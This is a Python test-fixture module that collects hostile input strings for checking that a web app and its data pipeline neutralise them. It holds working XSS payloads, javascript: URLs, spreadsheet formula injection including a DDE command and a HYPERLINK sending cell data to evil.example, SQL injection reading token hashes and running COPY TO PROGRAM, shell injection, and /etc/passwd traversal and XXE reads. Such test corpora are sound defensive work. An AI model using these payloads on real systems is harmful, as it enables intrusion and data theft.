"""Hostile text: what somebody may write into a field of a source, hoping that a page, a file or a statement runs it.

Whatever runs sets ``window.__pwned``, opens a dialog or asks ``evil.example`` for something. The test of the browser
looks for all three; the test of the pipeline, that the text arrives as the text that it is.
"""

from __future__ import annotations

RUN = "window.__pwned=1"
EVIL = "https://evil.example"

XSS = {
    "script": f"<script>{RUN}</script>",
    "script broken out of an attribute": f'"><script>{RUN}</script>',
    "script broken out of a title": f"</title><script>{RUN}</script>",
    "script broken out of a text area": f"</textarea><script>{RUN}</script>",
    "script broken out of a script": f"</script><script>{RUN}</script>",
    "script broken out of a comment": f"--><script>{RUN}</script><!--",
    "script broken out of a style": f"</style><script>{RUN}</script>",
    "script in capitals and blanks": f"<ScRiPt\n>{RUN}</sCrIpT >",
    "script twice over": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "module": f"<script type=module>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "image, quotes": f'"\'><img src="x" onerror="{RUN}">',
    "image with a slash": f"<img/src=`x`onerror={RUN}>",
    "image from elsewhere": f'<img src="{EVIL}/i.png">',
    "svg": f"<svg onload={RUN}>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg use": f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>",
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame, javascript": f"<iframe src=javascript:parent.{RUN}></iframe>",
    "object": f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    "embed": f"<embed src=javascript:{RUN}>",
    "form": f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    "button": f"<button formaction=javascript:{RUN} autofocus onfocus={RUN}>x",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "focus": f'<input autofocus onfocus="{RUN}">',
    "attribute, double quote": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute, single quote": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "attribute, none": f"x onmouseover={RUN} onfocus={RUN} autofocus tabindex=1",
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "base": f'<base href="{EVIL}/">',
    "style sheet": f'<link rel=stylesheet href="{EVIL}/x.css">',
    "style": f"<style>*{{background:url({EVIL}/x)}}</style>",
    "dangling markup": f"<img src='{EVIL}/?",
    "entities": "&lt;script&gt;window.__pwned=1&lt;/script&gt;&#60;img src=x onerror=window.__pwned=1&#62;",
    "numeric entities": "&#x3c;svg onload=window.__pwned=1&#x3e;",
    "full-width brackets": "＜script＞window.__pwned=1＜/script＞",
    "javascript string": f"\\';{RUN};//",
    "javascript double string": f'\\";{RUN};//',
    "javascript template": f"`-${{{RUN}}}-`",
    "javascript line separator": f"\u2028{RUN}//\u2029",
    "handlebars": "{{constructor.constructor('window.__pwned=1')()}}",
    "angular": "{{$on.constructor('window.__pwned=1')()}}",
    "template": "<%= window.__pwned=1 %> ${window.__pwned=1} #{window.__pwned=1} {%facts%}",
    "markdown link": f'[x](javascript:{RUN}) ![x](x"onerror="{RUN})',
    "markdown autolink": f"<javascript:{RUN}>",
    "polluting": '{"__proto__":{"innerHTML":"<img src=x onerror=window.__pwned=1>"}}',
}  # fmt: skip

ADDRESSES = {
    "javascript": f"javascript:{RUN}",
    "javascript with a tab": f"java\tscript:{RUN}",
    "javascript in capitals": f"  JaVaScRiPt:{RUN}",
    "javascript as a comment": f"javascript://polisen.se/%0a{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "without a scheme": "//evil.example/x",
    "back slashes": "/\\evil.example/x",
    "https and a quote": f'https://polisen.se/"onmouseover="{RUN}',
}

FORMULAS = {
    "formula": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "dde": "=cmd|' /C calc'!A0",
    "dde, plus": "+cmd|' /C calc'!A0",
    "hyperlink": f'=HYPERLINK("{EVIL}/?"&A1,"klicka")',
    "import": f'=IMPORTXML("{EVIL}","//a")',
    "after a delimiter": "x;=1+1",
    "after a comma": "x,=1+1",
    "after a quote": 'x";=1+1;"',
    "full-width": "＝1+1",
    "behind a zero-width space": "\u200b=1+1",
    "behind a no-break space": "\u00a0=1+1",
    "percent": "%0A=1+1",
}

SQL = {
    "quote": "'; drop table incident; --",
    "or": "' or '1'='1",
    "union": "' union select hash::text from app_token --",
    "set role": "'; set role lagesbild_writer; --",
    "set scope": "'; select set_config('lagesbild.scope', '00000000-0000-0000-0000-000000000000', false); --",
    "reset": "'; reset role; reset all; --",
    "dollar quotes": "$$; select pg_sleep(9); $$",
    "copy": "'; copy (select 1) to program 'touch /tmp/pwned'; --",
    "placeholder": "$1 %s :name ? {0}",
    "backslash": "\\'; select 1; --",
    "comment": "/* */ -- #",
    "like": "%_%",
    "json path": '$.** ? (@ like_regex "x")',
    "copy end": "\\.",
}  # fmt: skip

ODD = {
    "right to left": "\u202eemag eht si siht",
    "isolates": "\u2067x\u2066y\u2069\u2069",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "homograph": "Ѕtосkhоlm",  # Cyrillic
    "combining": "Z" + "\u0311\u0328\u0353" * 40,
    "astral": "𝕬😀🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "null": "null",
    "None": "None",
    "NaN": "NaN",
    "undefined": "undefined",
    "format": "%n%n%s%x {0.__class__.__mro__} {incident} {n}",
    "log": "x\nERROR forged line\r\n\x1b[31mred\x1b[0m",
    "terminal": "\x1b]0;title\x07\x1b[2J",
    "path": "../../../../etc/passwd",
    "shell": "$(touch /tmp/pwned) `id` | id",
    "crlf header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>window.__pwned=1</script>",
    "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "long": "lång " * 3000,
    "long without a blank": "A" * 9000,
}

CORPUS = {**XSS, **ADDRESSES, **FORMULAS, **SQL, **ODD}
